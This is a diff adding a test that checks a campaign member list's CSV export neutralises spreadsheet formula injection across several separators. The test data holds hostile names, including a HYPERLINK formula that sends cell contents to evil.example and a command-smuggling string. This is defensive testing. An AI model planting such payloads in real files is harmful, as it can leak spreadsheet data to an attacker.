@@ -7,6 +7,9 @@ import type { DataAdapter } from '../../src/adapters/adapter.js';
 import { UnavailableError } from '../../src/adapters/errors.js';
 import { LocalAdapter, MemoryStore } from '../../src/adapters/local/index.js';
 import { parseCsv } from '../../src/domain/csv.js';
+import { RestAdapter } from '../../src/adapters/rest/index.js';
+import { runsAsFormula, spreadsheetRead } from '../helpers/spreadsheet.js';
+import { TEST_SERVER, testKey } from '../helpers/server.js';
 import type { LeadFieldsInput } from '../../src/model/person.js';
 import type { LeadKit } from '../../src/context/lead-kit.js';
 import { idbFixture } from '../helpers/idb.js';
@@ -404,6 +407,30 @@ describe('<campaign-member-list>', () => {
       ['First name', 'Last name', 'Company', 'Email', 'Status'],
       ['Олена', 'Lê', `'=HYPERLINK("http://evil")`, 'x@example.com', 'Attended'],
     ]);
+  });
+
+  it("exports people imported through the server so that no spreadsheet runs their names, whatever its separator (';' in French, Ukrainian, Russian, Romanian)", async () => {
+    const { key } = await testKey();
+    const adapter = new RestAdapter({ baseUrl: TEST_SERVER, key, outbox: false });
+    await adapter.saveCampaign({ id: 'CSV', name: 'Hostile names' });
+    const hostile = ['x;=HYPERLINK("http://evil.example/?"&A1,"click")', '\n=1+1', 'a\t@SUM(1)', 'Ana, -2+3', '"; =cmd'];
+    const r = await adapter.importLeads({ campaignId: 'CSV' }, hostile.map((lastName, i) => ({ firstName: `P${i}`, lastName, email: `hostile${i}@example.com` })));
+    expect(r.created).to.equal(hostile.length);
+    const kit = await fixture(html`<lead-kit .adapter=${adapter}><campaign-member-list campaign="CSV" columns="name,email"></campaign-member-list></lead-kit>`);
+    const el = kit.firstElementChild as CampaignMemberList;
+    await ready(el);
+    await waitUntil(() => rowCount(el) === hostile.length, 'the imported people are listed', { timeout: 5000 });
+    const exported = oneEvent(el, 'members-export');
+    el.addEventListener('members-export', (e) => e.preventDefault(), { once: true });
+    button(el, 'Export CSV').click();
+    const { detail } = await exported;
+    for (const separator of [',', ';', '\t']) {
+      const cells = spreadsheetRead(detail.csv.slice(1), separator).flat();
+      expect(cells.filter(runsAsFormula), `read with ${JSON.stringify(separator)}`).to.deep.equal([]);
+    }
+    // Read with its own separator, each name is there (as text).
+    const names = parseCsv(detail.csv).slice(1).map((row) => row[1]);
+    for (const name of hostile) expect(names.some((n) => n.replace(/'/g, '').replace(/\r\n/g, '\n') === name.replace(/'/g, '').trim())).to.equal(true, name);
   });
 
   it('lets the user hide and reorder columns', async () => {
